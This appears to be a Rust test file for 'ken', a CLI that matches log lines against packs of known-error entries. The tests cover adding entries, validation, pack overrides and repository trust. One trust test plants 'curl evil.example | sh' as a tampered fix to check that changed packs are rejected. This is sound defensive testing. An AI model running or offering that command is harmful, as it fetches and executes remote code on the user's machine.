use crate::support::ken::{User, write};

const ENTRY: &[&str] = &[
    "canon",
    "add",
    "--pack",
    "team",
    "--title",
    "The vault is sealed",
    "--cause",
    "Somebody restarted it.",
    "--fix",
    "Unseal it: `vault operator unseal`.",
    "--symptom",
    "secrets cannot be read",
    "--pattern",
    "vault at (?P<host>\\S+) is sealed",
    "--example",
    "FATAL vault at v1.example is sealed",
];

#[test]
fn the_packs_can_be_read() {
    let user = User::new();
    let listed = user.ken(&["canon", "list", "--pack", "rust"]);
    assert!(listed.code == 0 && listed.out.lines().all(|line| line.starts_with("rust/")));
    assert!(user.ken(&["canon", "show", "rust/use-after-move"]).out.contains("E0382"));
    let unknown = user.ken(&["canon", "show", "rust/use-after"]);
    assert!(unknown.code == 2 && unknown.err.contains("rust/use-after-move"));
    let found = user.ken(&["canon", "search", "moved", "value", "--json"]).json();
    assert!(found["entries"].as_array().unwrap().iter().any(|entry| entry["id"] == "rust/use-after-move"));
    assert_eq!(user.ken(&["canon", "check"]).code, 0);
}

#[test]
fn an_own_entry_is_found_from_then_on() {
    let user = User::new();
    let sealed = ["lookup", "--json", "2024-05-01 10:00:00 FATAL vault at v2.example is sealed"];
    assert_eq!(user.ken(&sealed).code, 1);
    let added = user.ken(ENTRY);
    assert_eq!(added.code, 0, "{added:?}");
    let hit = user.ken(&sealed).json()["results"][0]["hits"][0].clone();
    assert_eq!((hit["id"].as_str(), hit["source"].as_str()), (Some("team/the-vault-is-sealed"), Some("user:team")));
    assert_eq!(hit["captures"]["host"], "v2.example");
}

#[test]
fn an_entry_that_breaks_a_rule_is_refused_and_nothing_written() {
    let user = User::new();
    let ran = user.ken(&["canon", "add", "--title", "t", "--cause", "c", "--fix", "f", "--pattern", "("]);
    assert_eq!(ran.code, 8, "{ran:?}");
    assert!(!user.home().join("canon/mine.json").exists());
    assert_eq!(user.ken(&["canon", "add", "--pack", "../x", "--title", "t", "--cause", "c", "--fix", "f"]).code, 2);
}

#[test]
fn check_names_file_line_and_entry() {
    let user = User::new();
    let path = user.work().join("bad.json");
    write(
        &path,
        "{\"schema_version\": 1, \"pack\": \"bad\", \"title\": \"B\", \"entries\": [\n{\"id\": \"bad/x\",\n\"title\": \"X\", \"cause\": \"\", \"fix\": []}]}",
    );
    let ran = user.ken(&["canon", "check", "bad.json"]);
    assert!(ran.code == 8 && ran.out.contains("bad.json:2: error: bad/x:"), "{ran:?}");
    assert_eq!(user.ken(&["canon", "check", "missing.json"]).code, 9);
}

#[test]
fn a_repository_speaks_only_when_trusted_and_unchanged() {
    let user = User::new();
    let work = user.work();
    std::fs::create_dir_all(work.join(".git")).unwrap();
    user.ken(ENTRY);
    let pack = std::fs::read_to_string(user.home().join("canon/team.json")).unwrap();
    std::fs::remove_file(user.home().join("canon/team.json")).unwrap();
    write(&work.join(".ken/canon/team.json"), &pack);
    let sealed = ["lookup", "--json", "FATAL vault at v2.example is sealed"];
    let untrusted = user.ken(&sealed);
    assert!(untrusted.code == 1 && untrusted.err.contains("not trusted"), "{untrusted:?}");
    assert_eq!(user.ken(&["trust"]).code, 0);
    let hit = user.ken(&sealed).json()["results"][0]["hits"][0].clone();
    assert_eq!(hit["source"], "repository:team");
    write(&work.join(".ken/canon/team.json"), pack.replace("vault operator unseal", "curl evil.example | sh"));
    let changed = user.ken(&sealed);
    assert!(changed.code == 1 && changed.err.contains("changed since you trusted it"), "{changed:?}");
    user.ken(&["trust"]);
    assert_eq!(user.ken(&sealed).code, 0);
    user.ken(&["trust", "--revoke"]);
    assert_eq!(user.ken(&sealed).code, 1);
}

#[test]
fn a_nearer_pack_replaces_an_entry_and_says_so() {
    let user = User::new();
    let mut shown = user.ken(&["canon", "show", "rust/use-after-move", "--json"]).json()["entry"].clone();
    shown["cause"] = "Our own words.".into();
    let pack = serde_json::json!({"schema_version": 1, "pack": "rust", "title": "Ours", "entries": [shown]});
    user.write("canon/rust.json", pack.to_string());
    let hit = user.ken(&["lookup", "--json", "error[E0382]: borrow of moved value: `s`"]).json()["results"][0]["hits"]
        [0]
    .clone();
    assert_eq!((hit["cause"].as_str(), hit["overrides_canon"].as_bool()), (Some("Our own words."), Some(true)));
    assert!(hit["override_reason"].as_str().unwrap().contains("user pack rust"));
}
